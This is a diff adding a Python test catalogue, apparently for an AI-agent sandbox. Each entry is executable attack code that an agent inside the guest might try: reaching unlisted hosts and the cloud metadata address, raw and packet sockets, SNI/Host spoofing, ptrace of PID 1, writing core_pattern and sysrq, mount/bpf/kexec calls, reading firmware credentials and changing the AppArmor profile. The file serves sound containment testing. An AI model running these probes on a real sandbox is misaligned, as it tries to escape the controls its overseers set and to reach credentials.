@@ -1,0 +1,174 @@
+"""What an agent may try, as data: each attack is a Python text run as the agent in the guest.
+
+It ends with won("…") when it got through, and with an exception or lost("…") when it was stopped. `guard` is the word of
+docs/design.md "Guards and their controls": in the world where that guard is off the same text must win.
+"""
+
+from dataclasses import dataclass
+
+PRELUDE = r"""
+import ctypes, errno, json, os, socket, ssl, struct, subprocess, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+def won(text): print("WON " + str(text)); sys.exit(0)
+def lost(text): print("LOST " + str(text)); sys.exit(0)
+def syscall(number, *arguments):
+    result = libc.syscall(number, *arguments)
+    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+def answer(connection, text=b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"):
+    connection.sendall(text); data = b""
+    while True:
+        part = connection.recv(65536)
+        if not part: return data
+        data += part
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    promise: str
+    guard: str
+    text: str
+    on_the_wire: bool = False  # it wins when a frame left the guest, whatever the agent sees
+
+
+def _tcp(address: str, port: int, family: str = "AF_INET") -> str:
+    return f"""
+s = socket.socket(socket.{family}); s.settimeout(20); s.connect(({address!r}, {port}))
+won(answer(s)[-60:])
+"""
+
+
+def _udp(address: str, port: int, family: str = "AF_INET") -> str:
+    return f"s = socket.socket(socket.{family}, socket.SOCK_DGRAM); [s.sendto(b'out', ({address!r}, {port})) for _ in range(3)]; lost('sent')"
+
+
+def _socket(family: int, kind: str, protocol: int = 0) -> str:
+    return f"s = socket.socket({family}, socket.{kind}, {protocol}); won(s)"
+
+
+def _call(number: int, arguments: str) -> str:
+    """A system call wins when the kernel gets past its permission checks: only EPERM, EACCES and ENOSYS are refusals."""
+    return f"""
+try: syscall({number}, {arguments})
+except OSError as e:
+    if e.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS): lost(e)
+    won(e)
+won('done')
+"""
+
+
+ATTACKS = [
+    # P2: no host that the profile does not list, by no protocol.
+    Attack("tcp-unlisted-address", "P2", "fence", _tcp("198.51.100.66", 80)),
+    Attack("tcp6-unlisted-address", "P2", "fence", _tcp("2001:db8:b::66", 80, "AF_INET6")),
+    Attack("tcp-listed-server-by-its-real-address", "P2", "fence", _tcp("198.51.100.21", 80)),
+    Attack("tcp-metadata-address", "P2", "fence", _tcp("169.254.169.254", 80)),
+    Attack("tcp-gateway", "P2", "fence", _tcp("203.0.113.1", 80)),
+    Attack("udp-unlisted", "P2", "fence", _udp("198.51.100.66", 9999), on_the_wire=True),
+    Attack("udp6-unlisted", "P2", "fence", _udp("2001:db8:b::66", 9999, "AF_INET6"), on_the_wire=True),
+    Attack("quic-to-listed-name", "P2", "fence", """
+address = socket.getaddrinfo('api.demo.test', 443, socket.AF_INET)[0][4][0]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'\\xc0' + b'0' * 1199, (address, 443)); s.sendto(b'x', ('198.51.100.21', 443)); lost('sent')
+""", on_the_wire=True),
+    Attack("dns-to-a-foreign-resolver", "P2", "fence", """
+q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x08unlisted\\x04test\\x00\\x00\\x01\\x00\\x01'
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8); s.sendto(q, ('203.0.113.53', 53)); a = s.recv(512)
+won(a) if bytes([198, 51, 100, 66]) in a else lost(a)
+""", on_the_wire=True),
+    Attack("multicast", "P2", "fence", _udp("224.0.0.251", 5353), on_the_wire=True),
+    Attack("raw-icmp", "P2", "capabilities", _socket(2, "SOCK_RAW", 1)),
+    Attack("raw-tcp", "P2", "capabilities", _socket(2, "SOCK_RAW", 6)),
+    Attack("packet-socket", "P2", "seccomp", _socket(17, "SOCK_RAW", 0x0300)),
+    Attack("vsock", "P2", "seccomp", _socket(40, "SOCK_STREAM")),
+    Attack("netlink-netfilter", "P3", "seccomp", _socket(16, "SOCK_RAW", 12)),
+    Attack("listed-name-other-host", "P2", "name-check", """
+c = ssl.create_default_context(); s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 20), server_hostname='api.demo.test')
+a = answer(s, b'GET /v1/x HTTP/1.1\\r\\nHost: git.demo.test\\r\\nConnection: close\\r\\n\\r\\n')
+won(a) if a.startswith(b'HTTP/1.1 200') else lost(a[:80])
+"""),
+    Attack("listed-name-other-sni", "P2", "name-check", """
+c = ssl.create_default_context(); c.check_hostname = False
+s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 20), server_hostname='git.demo.test')
+a = answer(s, b'GET /v1/x HTTP/1.1\\r\\nHost: api.demo.test\\r\\nConnection: close\\r\\n\\r\\n')
+won(a) if a.startswith(b'HTTP/1.1 200') else lost(a[:80])
+"""),
+    Attack("listed-host-unlisted-path", "P2", "policy", """
+c = ssl.create_default_context(); s = c.wrap_socket(socket.create_connection(('api.demo.test', 443), 20), server_hostname='api.demo.test')
+a = answer(s, b'GET /admin HTTP/1.1\\r\\nHost: api.demo.test\\r\\nConnection: close\\r\\n\\r\\n')
+won(a) if a.startswith(b'HTTP/1.1 200') else lost(a[:80])
+"""),
+    Attack("egress-port-directly", "P2", "fence", _tcp("198.18.0.1", 15001)),
+    Attack("shield-console-from-inside", "P4", "fence", _tcp("198.18.0.1", 8711)),
+    Attack("shield-console-by-uplink-address", "P4", "fence", _tcp("203.0.113.10", 8711)),
+    # P3: no system file, firewall, profile, log, foreign process.
+    Attack("see-processes-outside", "P3", "namespaces", """
+names = [open(f'/proc/{p}/comm').read().strip() for p in os.listdir('/proc') if p.isdigit()]
+hits = [n for n in names if n in ('gate', 'egress', 'audit', 'console')]
+won(hits) if hits else lost(names)
+"""),
+    Attack("signal-pid-1", "P3", "uid", "os.kill(1, 9); won('killed')"),
+    Attack("read-memory-of-another-user", "P3", "uid", """
+for p in os.listdir('/proc'):
+    if p.isdigit() and os.stat(f'/proc/{p}').st_uid != os.getuid():
+        try: open(f'/proc/{p}/mem', 'rb').close(); won(p)
+        except OSError: pass
+lost('none')
+"""),
+    Attack("ptrace-pid-1", "P3", "uid", "r = libc.ptrace(16, 1, 0, 0); won(r) if r == 0 else lost(ctypes.get_errno())"),
+    Attack("write-usr", "P3", "verity", "open('/usr/bin/owned', 'w').write('x'); won('written')"),
+    Attack("write-etc", "P3", "verity", "open('/etc/owned', 'w').write('x'); won('written')"),
+    Attack("mount", "P3", "seccomp", _call(165, "b'none', b'/tmp', b'tmpfs', 0, None")),
+    Attack("unshare-user-namespace", "P3", "seccomp", "os.unshare(0x10000000); won('unshared')"),
+    Attack("setns", "P3", "seccomp", _call(308, "-1, 0")),
+    Attack("bpf", "P3", "seccomp", _call(321, "0, ctypes.create_string_buffer(128), 128")),
+    Attack("perf", "P3", "seccomp", _call(298, "ctypes.create_string_buffer(struct.pack('<II', 1, 112) + bytes(104)), 0, -1, -1, 0")),
+    Attack("module-load", "P3", "kernel", _call(175, "ctypes.create_string_buffer(16), 16, b''")),
+    Attack("kexec", "P3", "kernel", _call(246, "0, 0, None, 0")),
+    Attack("io-uring", "P3", "kernel", _call(425, "8, ctypes.create_string_buffer(256)")),
+    Attack("keyring", "P3", "seccomp", _call(248, "b'user', b'x', b'y', 1, -3")),
+    Attack("reboot", "P7", "seccomp", _call(169, "0xfee1dead, 672274793, 0x4321fedc, None")),
+    Attack("set-clock", "P3", "capabilities", _call(227, "0, ctypes.create_string_buffer(struct.pack('<qq', 1, 0))")),
+    Attack("set-hostname", "P3", "capabilities", _call(170, "b'owned', 5")),
+    Attack("nft", "P3", "seccomp", "s = socket.socket(16, socket.SOCK_RAW, 12); s.bind((0, 0)); won('netfilter netlink')"),
+    Attack("write-sysctl", "P3", "uid", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x'); won('written')"),
+    Attack("sysrq", "P3", "uid", "open('/proc/sysrq-trigger', 'w').write('b'); won('written')"),
+    Attack("read-shield-state", "P1", "namespaces", "won(os.listdir('/var/lib/anchorhold/gate'))"),
+    Attack("read-firmware-credentials", "P1", "uid", """
+for root in ('/sys/firmware/qemu_fw_cfg/by_name', '/sys/firmware/dmi/entries', '/run/credentials'):
+    for path, _, files in os.walk(root):
+        for f in files:
+            try: open(os.path.join(path, f), 'rb').read(); won(path)
+            except OSError: pass
+lost('none')
+"""),
+    Attack("host-channel", "P4", "namespaces", """
+hits = [n for n in os.listdir('/dev') if n.startswith(('vport', 'hvc', 'vd', 'sd', 'ttyS', 'mem', 'kmsg'))]
+won(hits) if hits else lost('none')
+"""),
+    Attack("gate-socket", "P4", "namespaces", """
+s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.settimeout(5); s.connect('/run/anchorhold/gate'); won('connected')
+"""),
+    Attack("dmesg", "P3", "capabilities", _call(103, "3, ctypes.create_string_buffer(4096), 4096")),
+    Attack("setuid-files", "P3", "image", """
+out = subprocess.run(['find', '/', '-xdev', '-perm', '/6000', '-type', 'f'], capture_output=True, text=True).stdout
+won(out) if out.strip() else lost('none')
+"""),
+    Attack("gain-capability", "P3", "capabilities", """
+caps = {l.split(':')[0]: int(l.split()[1], 16) for l in open('/proc/self/status') if l.startswith('Cap')}
+won(caps) if any(caps.values()) else lost(caps)
+"""),
+    Attack("no-new-privs-off", "P3", "no-new-privs", """
+v = next(l.split()[1] for l in open('/proc/self/status') if l.startswith('NoNewPrivs')); won(v) if v == '0' else lost(v)
+"""),
+    Attack("unconfined", "P3", "apparmor", """
+v = open('/proc/self/attr/apparmor/current').read().strip(); won(v) if v == 'unconfined' else lost(v)
+"""),
+    Attack("change-apparmor-profile", "P3", "apparmor", """
+open('/proc/self/attr/apparmor/current', 'w').write('changeprofile unconfined'); won(open('/proc/self/attr/apparmor/current').read())
+"""),
+]
+
+# Guards that cannot be switched off: another kernel, image or uid would be another product. Their tests have no control.
+WITHOUT_CONTROL = {"uid", "verity", "kernel", "image"}
